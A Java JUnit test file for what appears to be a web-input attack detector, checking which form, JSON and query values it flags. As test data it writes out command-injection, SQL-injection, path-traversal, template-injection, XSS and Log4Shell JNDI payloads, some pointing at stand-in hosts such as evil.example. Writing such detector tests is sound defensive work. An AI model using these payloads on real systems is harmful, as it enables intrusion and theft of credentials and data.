package dev.portcullis.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Posts and code of several lines, which hold much that would be an attack as a value. */
class DocumentsTest {

    private static final Path FOLDER = Path.of("src/test/resources/dev/portcullis/attack/documents");

    private static final String PADDING = "A first line of prose, and more.\n".repeat(8);

    private final Inspection inspection = new Inspection(Level.BALANCED, Exclusions.NONE);

    static List<Path> documents() throws IOException {
        try (var files = Files.list(FOLDER)) {
            return files.sorted().toList();
        }
    }

    @Test
    void thereAreDocumentsOfManyKinds() throws IOException {
        assertThat(documents()).hasSizeGreaterThan(10);
    }

    @ParameterizedTest
    @MethodSource("documents")
    void letsDocumentsThrough(Path document) throws IOException {
        var text = Files.readString(document);

        assertThat(new Text(text).isDocument()).isTrue();
        assertThat(inspection.look(Place.JSON_VALUE, "content", text)).isNull();
        assertThat(inspection.look(Place.FORM_VALUE, "content", text.replace("\n", "\r\n")))
                .isNull();
    }

    @Test
    void deniesMarkupWhereverItStands() {
        assertThat(inspection.look(Place.JSON_VALUE, "content", PADDING + "<img src=x onerror=alert(1)>\n" + PADDING))
                .isNotNull();
        assertThat(inspection.look(Place.JSON_VALUE, "content", PADDING + "${jndi:ldap://203.0.113.7/a}\n" + PADDING))
                .isNotNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "A line of prose, and more.",
                "city: Paris 75",
                "city=Paris75",
                "amber river lantern",
                "17,amber,river,2.5",
                "2026-03-01 12:00:17 INFO  [worker-3] amber took 17 ms",
                "- amber and river",
                "> We spoke of it.",
                "# We spoke of it.",
                "  \"city\": \"Paris\",",
                "<p>We spoke of it.</p>"
            })
    void deniesALineThatIsAnAttackAmidPlainLines(String plain) {
        for (var attack : List.of(
                "127.0.0.1; cat /etc/passwd",
                "| id",
                "$(whoami)",
                "{{7*7}}",
                "${7*7}",
                "a';system('id');",
                "../../../../etc/passwd",
                "1' or '1'='1")) {
            for (var end : List.of("\n", "\r\n", "\n\n")) {
                var lines = (plain + end).repeat(7);
                assertThat(inspection.look(Place.FORM_VALUE, "content", attack + end + lines))
                        .as("%s first", attack)
                        .isNotNull();
                assertThat(inspection.look(Place.JSON_VALUE, "content", lines + "\t" + attack + end + lines))
                        .as("%s amid", attack)
                        .isNotNull();
                assertThat(inspection.look(Place.QUERY_VALUE, "content", lines + attack))
                        .as("%s last", attack)
                        .isNotNull();
            }
        }
    }

    @Test
    void deniesAScriptThatLeavesAStringInALineOfItsOwn() {
        var lines = "The parcel arrived on Monday, thank you.\n".repeat(5);
        for (var attack : List.of("';alert(1);//", "\"-confirm(1)-\"", "'});alert(1);//", "1' or 1 -- -")) {
            assertThat(inspection.look(Place.FORM_VALUE, "content", lines + attack))
                    .as(attack)
                    .isNotNull();
        }
        assertThat(inspection.look(Place.FORM_VALUE, "content", lines + "alert(s) were sent to the driver"))
                .isNull();
    }

    @Test
    void letsLinesThroughThatStandAmidTheirLike() {
        assertThat(inspection.look(Place.FORM_VALUE, "content", """
                #!/bin/sh
                set -e
                if [ "$(id -u)" -ne 0 ]; then
                    echo "run me as root" >&2
                    exit 1
                fi
                host=$(hostname)
                cd /etc/app && make clean; ls -la
                echo "done on $host"
                """)).isNull();
        assertThat(inspection.look(Place.FORM_VALUE, "content", """
                To install it, type this in the folder:

                ```
                git clone https://example.org/shop.git
                cd shop && make; ls -la
                ```

                Then `ls -la` shows what is there, and `id` who you are.
                Most people stop here.
                """)).isNull();
    }

    @Test
    void deniesWhatBreaksOutOfAStringBehindManyLines() {
        assertThat(inspection.look(
                        Place.FORM_VALUE, "content", PADDING + "' union select name, password from users -- "))
                .isNotNull();
    }

    @Test
    void lineEndsBetweenTokensMakeNoDocument() {
        var spread = "1'\n\n\nunion\n\nselect\n\n1,\n2,\n3\n\nfrom\n\nusers\n\n--\n";

        assertThat(new Text(spread).isDocument()).isFalse();
        assertThat(inspection.look(Place.FORM_VALUE, "q", spread)).isNotNull();
    }

    @Test
    void deniesACommandThatBeginsALineBehindASeparator() {
        assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + "; cat /etc/passwd\n" + PADDING))
                .isNotNull();
        assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + "$(whoami)\n" + PADDING))
                .isNotNull();
        assertThat(inspection.look(
                        Place.FORM_VALUE, "content", PADDING + "RUN make \\\n && rm -rf /var/tmp/x\n" + PADDING))
                .isNull();
    }

    @Test
    void aHintInSeveralSentencesIsNoneAtStrict() {
        var strict = new Inspection(Level.STRICT, Exclusions.NONE);
        var hint = "to write {{ price * 2 }} in the text";

        assertThat(strict.look(Place.FORM_VALUE, "content", "{{ price * 2 }}")).isNotNull();
        assertThat(strict.look(Place.FORM_VALUE, "content", PADDING + hint)).isNull();
        assertThat(strict.look(
                        Place.FORM_VALUE, "content", "please tell all of them in the office that they have " + hint))
                .isNull();
    }

    @Test
    void markupBetweenFencesAndTicksIsThereToBeRead() {
        var page = PADDING + "```\n<iframe src=\"some page\">\n</iframe>\n```\n" + PADDING;
        var strict = new Inspection(Level.STRICT, Exclusions.NONE);

        assertThat(inspection.look(Place.FORM_VALUE, "content", page)).isNull();
        assertThat(inspection.look(
                        Place.FORM_VALUE, "content", PADDING + "Try `<script src='/a.js'></script>` and see.\n"))
                .isNull();
        assertThat(strict.look(Place.FORM_VALUE, "content", page)).isNotNull();
    }

    /** Each of these is live in CommonMark, or may be. */
    @Test
    void whatOnlySomeReadersTakeForCodeIsNone() {
        var live = "<script src='//evil.example/x.js'></script>";
        for (var text : List.of(
                "\n    " + live + "\n",
                "- item\n\n    " + live + "\n",
                "````\n```\n````\n" + live + "\n```\n",
                "```\na\n``` x\n```\n" + live + "\n```\n",
                "```a`b\n\n" + live + "\n\n```\n",
                "~~~\n```\n~~~\n" + live + "\n```\n",
                "- a\n  ```\n```\nx\n```\n" + live + "\n```\n",
                "<div>\n```\n" + live + "\n```\n",
                "<!--\n```\n-->" + live + "\n```\n",
                "<img alt=\"`\"> " + live + " <img alt=\"`\">\n",
                "\\`" + live + "`\n",
                "``` a `` " + live + " `\n")) {
            assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + text))
                    .as(text)
                    .isNotNull();
        }
        assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + "````html\n```\n" + live + "\n````\n"))
                .isNull();
    }

    @Test
    void whatProbesAPageIsDeniedBetweenFencesAndTicksToo() {
        for (var text : List.of(
                "```\n<script>alert(1)</script>\n```\n",
                "Try `<img src=x onerror=alert(1)>` and see.\n",
                "Try `<img src=x onerror=go(1)>` and see.\n",
                "```\n<a href=javascript:go(1)>\n```\n",
                "```\n```\n<iframe src='//evil.example'></iframe>\n",
                "```\n<iframe src='//evil.example'></iframe>\n",
                "`one` <iframe src='//evil.example'></iframe> `two`\n")) {
            assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + text))
                    .as(text)
                    .isNotNull();
        }
    }

    @Test
    void theEndOfAnElementIsNoneInADocument() {
        assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + "</script>\n"))
                .isNull();
        assertThat(inspection.look(Place.FORM_VALUE, "content", PADDING + "</script><script>x()\n"))
                .isNotNull();
    }

    @Test
    void codeWithoutLineEndsIsADocument() {
        var code = "function f(a){return a?{b:1}:null;}".repeat(20);

        assertThat(new Text(code).isDocument()).isTrue();
        assertThat(new Text("a".repeat(2_000) + ";{}").isDocument()).isFalse();
    }

    @Test
    void aQueryHoldsNoDocuments() {
        var statements = PADDING + "1 or 1 = 1";

        assertThat(inspection.look(Place.FORM_VALUE, "content", statements)).isNull();
        assertThat(inspection.look(Place.QUERY_VALUE, "q", statements)).isNotNull();
    }
}
